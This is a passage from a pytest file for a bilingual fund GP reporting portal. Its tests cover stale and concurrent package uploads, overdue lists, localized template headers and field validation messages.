                               .order_by(AuditEntry.id.desc()).limit(1)).scalar()
    assert entry.before["content"] == first and entry.after["content"] == second
    # the same page once more (its draft saved since, by its own upload): refused
    assert _upload(client, first, fresh).status_code == 200 and _one_package(db).content == second


def test_an_upload_after_an_edit_form_save_is_refused_in_english_too(db, client, book):
    """The page drawn, then the draft saved through the edit form (by someone else of the GP):
    the upload from that page is refused, said in the reader's language; a hostile versions
    field is ignored, never a crash."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    package_id = package.id
    login(client, "gp1")
    client.get("/lang/en")
    drawn = _portal_upload_form(client)
    form = _drawn_form(client, f"/gp/packages/{package_id}/edit")
    assert client.post(f"/gp/packages/{package_id}/edit", data={**form, "acc-closing_nav": "12345"}).status_code == 302
    edited = _one_package(db).content
    other = clean_content()
    other["narrative"] = "from the stale page"
    page = html.unescape(_upload(client, other, drawn).get_data(as_text=True))
    assert f"Not uploaded: the report of QY-SF1 for 2025Q4 (#{package_id}) was saved by gp1 at" in page
    assert "nothing was changed" in page and _one_package(db).content == edited
    for hostile in (f"{package_id}:{'0' * 16}", f"{package_id}", f"x:{drawn['versions'][-16:]}", "９:" + "a" * 16,
                    f"{package_id}:{drawn['versions'][-16:]}" * 3, "\u0000", "1" * 40 + ":" + "a" * 16):
        answer = _upload(client, other, {**drawn, "versions": hostile})
        assert answer.status_code in (200, 302) and _one_package(db).content == edited


def test_two_uploads_from_one_page_at_once_replace_the_draft_once(app, db, book, monkeypatch):
    """Two uploads carrying the same version, at once: the second waits for the first's lock on
    the interest's quarter, then finds the draft no longer as its page showed it."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    drawn = {package.id: packages.package_version(package)}
    one, two = clean_content(), clean_content()
    one["narrative"], two["narrative"] = "第一份上传", "第二份上传"
    db.session.remove()
    started = threading.Event()
    slowed(monkeypatch, packages, "run_tieout", started)

    def upload(content):
        return lambda s: packages.save_package(s, "QY-SF1", Q4, content, username="gp1", allowed=["SF1"],
                                               action="upload", drawn=drawn).id
    saved, refused = race(app, db, upload(one), upload(two), started)
    assert saved == package.id
    assert isinstance(refused, packages.StaleUpload) and refused.errors[0][1].key == "gp_upload_stale"
    assert _one_package(db).content["narrative"] == "第一份上传"


@pytest.mark.parametrize("lang, said, header", [("zh", "下载模板（中文表头）", "企业名称"),
                                                ("en", "Download the template (English headers)", "Company name")])
def test_the_portal_says_the_templates_headers_are_in_the_readers_language(client, book, lang, said, header):
    """The template an English reader downloads has English headers: the portal says so, not
    "(Chinese headers)"."""
    from openpyxl import load_workbook

    login(client, "gp1", "correct-horse-9")
    client.get(f"/lang/{lang}")
    page = client.get("/gp/").get_data(as_text=True)
    assert said in page and "Chinese headers" not in page
    workbook = load_workbook(io.BytesIO(client.get("/gp/template.xlsx").data))
    assert header in [cell.value for sheet in workbook for cell in sheet[1]]


def test_every_package_the_gp_is_told_is_overdue_is_on_the_managers_overdue_list(client, db, book):
    """The GP's portal lists the last four quarters' packages, each overdue past its deadline; the
    managers' reminder list (管理人报告 → 逾期未报) had only the last two, so a package a year late
    was on the GP's list and on no manager's."""
    today = dt.date.today()
    late = [r for r in packages.requests(db.session, packages.interests(db.session, ["SF1"]), today) if r.overdue]
    assert len({r.quarter_end for r in late}) >= 3  # older than the last two quarters among them
    login(client, "manager1")
    page = client.get("/gp/review").get_data(as_text=True)
    assert [r for r in late if f'data-overdue="{r.investment.id}:{r.quarter_end.isoformat()}"' not in page] == []


def test_a_notice_without_its_date_is_refused_as_required_not_as_a_bad_format(book):
    """A notice row with a type and an amount but no date, typed on the form or left blank in
    the workbook, said 日期：日期格式应为 YYYY-MM-DD： (a format, then a colon and nothing); it is
    a missing date: 必填 / Required."""
    from openpyxl import load_workbook

    from portfolio.gp.template import read_form

    with pytest.raises(FieldErrors) as refused:
        read_form({"n-0-date": " ", "n-0-type": "contribution", "n-0-amount": "5"})
    assert [str(m) for _f, m in refused.value.errors] == ["出资与分配 第 1 行 日期：必填"]
    assert [m.shown("en") for _f, m in refused.value.errors] == ["Calls and distributions, row 1, Date: required"]
    wb = load_workbook(io.BytesIO(workbook(investment_id="QY-SF1", quarter_end=Q4, lang="en")))
    wb["Calls and distributions"].append([None, "contribution", 5, "R1"])
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(FieldErrors) as refused:
        read_workbook(out.getvalue())
    assert [m.shown("en") for _f, m in refused.value.errors] == ["Calls and distributions, row 2, Date: required"]


@pytest.mark.parametrize("lang, heads", [("zh", ["季度", "预计出资（元）", "预计分配（元）"]),
                                         ("en", ["Quarter", "Projected calls (CNY)", "Projected distributions (CNY)"])])
def test_the_packages_projection_says_which_figure_is_which(client, db, book, lang, heads):
    """The package page listed the projection as a quarter and two bare figures (2026Q1
    500,000,000.00 0.00): nothing said which were the calls and which the distributions."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    login(client, "gp1", "correct-horse-9")
    client.get(f"/lang/{lang}")
    page = client.get(f"/gp/packages/{package.id}").get_data(as_text=True)
    table = page.split('id="projection"', 1)[1].split("</table>", 1)[0]
    assert re.findall(r"<th[^>]*>([^<]*)</th>", table) == heads and "2026Q1" in table


def test_the_english_holdings_table_names_both_amounts_unit_alike(client, db, book):
    """The English package page headed the holdings' amounts Cost (yuan) beside Fair value (CNY)."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    login(client, "gp1", "correct-horse-9")
    client.get("/lang/en")
    page = client.get(f"/gp/packages/{package.id}").get_data(as_text=True)
    table = page.split('id="holdings"', 1)[1].split("</thead>", 1)[0]
    heads = re.findall(r"<th[^>]*>([^<]*)</th>", table)
    assert "Cost (CNY)" in heads and "Fair value (CNY)" in heads and not [h for h in heads if "yuan" in h]


@pytest.mark.parametrize("lang, typed, said", [
    ("zh", "2025/12/31", "日期格式应为 YYYY-MM-DD"), ("zh", "2025-02-30", "不存在的日期"),
    ("en", "2025/12/31", "The date must be written YYYY-MM-DD")])
def test_a_quarter_end_typed_in_another_format_is_refused_beside_its_field(db, client, book, lang, typed, said):
    """The new-package form answered 500 to a quarter end like 2025/12/31 (the text reached the
    use case, which took it for a date); it is refused beside the field, with what was typed kept."""
    login(client, "gp1")
    client.get(f"/lang/{lang}")
    response = client.post("/gp/packages/new", data={"investment_id": "QY-SF1", "quarter_end": typed, "unit": "yuan",
                                                      "acc-opening_nav": "310,000,000"})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and said in page
    assert f'value="{typed}"' in page and 'value="310,000,000"' in page
    assert db.session.execute(select(GpPackage)).first() is None


@pytest.mark.parametrize(("investment", "quarter_end", "said"), [
    (None, "2025-12-31", "General, row 2, Investment ID: required"),
    ("QY-SF1", None, "General, row 3, Period end: required"),
    ("QY-SF1", "2025-12-30", "General, row 3, Period end: the period end is a quarter's last day"),
])
def test_a_workbooks_general_sheet_is_refused_at_its_cell(client, book, investment, quarter_end, said):
    """An uploaded template whose 基本信息 sheet left the investment or the period end blank, or
    gave a day that ends no quarter, was refused with a bare 没有可报告的投资： (nothing after the
    colon) or 报告期末应为季末日, naming no sheet, row or column; each is now refused at its cell."""
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(workbook(investment_id="QY-SF1", quarter_end=Q4, lang="en")))
    wb["General"]["B2"] = investment
    wb["General"]["B3"] = quarter_end
    out = io.BytesIO()
    wb.save(out)
    login(client, "gp1")
    client.get("/lang/en")
    sent = {**_portal_upload_form(client), "file": (io.BytesIO(out.getvalue()), "p.xlsx")}
    page = html.unescape(client.post("/gp/upload", data=sent, content_type="multipart/form-data",
                                     follow_redirects=True).get_data(as_text=True))
    assert said in page and "No investment to report on" not in page


def test_a_quarter_whose_gp_nav_the_book_holds_is_asked_but_not_overdue(client, db, book, tmp_path):
    """A GP NAV the fund booked itself (its import of the report that came by e-mail) is the GP's
    report of that quarter: the portal still offers the package, but neither the GP nor the
    managers are told it is overdue. A valuation of another method (the fund's own estimate), one
    voided, or one of another quarter, does not count."""
    today = dt.date.today()
    late = sorted({r.quarter_end for r in packages.requests(db.session, packages.interests(db.session, ["SF1"]), today)
                   if r.overdue and r.investment.id == "QY-SF1"})
    assert len(late) >= 3
    reported, estimated, voided = late[-1], late[-2], late[-3]
    folder = tmp_path / "book"
    shutil.copytree(EXAMPLE_BOOK, folder)
    with open(folder / "valuations.csv", "a", encoding="utf-8") as fh:
        fh.write(f"QY-SF1,{reported},330000000,gp_nav\nQY-SF1,{estimated},330000000,cost\n"
                 f"QY-SF1,{voided},330000000,gp_nav\n")
    assert import_book(db.session, folder, username="loader").ok
    gone = db.session.execute(select(Valuation).where(Valuation.investment_id == "QY-SF1",
                                                      Valuation.as_of == voided)).scalar_one()
    gone.voided_at, gone.voided_by = dt.datetime(2026, 1, 1), "checker"
    db.session.commit()
    cache.clear()

    asked = {r.quarter_end: r for r in packages.requests(db.session, packages.interests(db.session, ["SF1"]), today)
             if r.investment.id == "QY-SF1"}
    assert asked[reported].booked and not asked[reported].overdue
    assert not asked[estimated].booked and asked[estimated].overdue and asked[voided].overdue
    listed = {(r.investment.id, r.quarter_end) for r in packages.overdue(db.session, today)}
    assert ("QY-SF1", reported) not in listed and {("QY-SF1", estimated), ("QY-SF1", voided)} <= listed

    login(client, "gp1")
    page = client.get("/gp/").get_data(as_text=True)
    row = re.search(rf'<tr data-request="QY-SF1:{reported}"[^>]*>(.*?)</tr>', page, re.S)
    assert row and 'class="status-fail"' not in row.group(0) and "已逾期" not in row.group(1)
    assert 'data-booked="1"' in row.group(1) and "台账已有该季度净值" in row.group(1)
    assert "在线填写" in row.group(1)  # the package can still be sent
    other = re.search(rf'<tr data-request="QY-SF1:{estimated}"[^>]*>(.*?)</tr>', page, re.S)
    assert 'class="status-fail"' in other.group(0) and "data-booked" not in other.group(1)
    client.get("/lang/en")
    assert "NAV for the quarter in the book" in client.get("/gp/").get_data(as_text=True)
    login(client, "manager1")
    page = client.get("/gp/review").get_data(as_text=True)
    assert f'data-overdue="QY-SF1:{reported}"' not in page and f'data-overdue="QY-SF1:{estimated}"' in page
